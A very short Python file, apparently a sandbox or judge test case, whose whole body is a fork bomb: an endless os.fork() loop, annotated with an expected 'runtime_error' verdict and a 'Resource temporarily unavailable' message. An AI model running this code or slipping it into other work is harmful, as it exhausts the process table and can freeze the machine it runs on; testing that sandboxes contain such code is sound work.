"""Fork without end."""
# verdict: runtime_error
# told: Resource temporarily unavailable

import os

while True:
    os.fork()
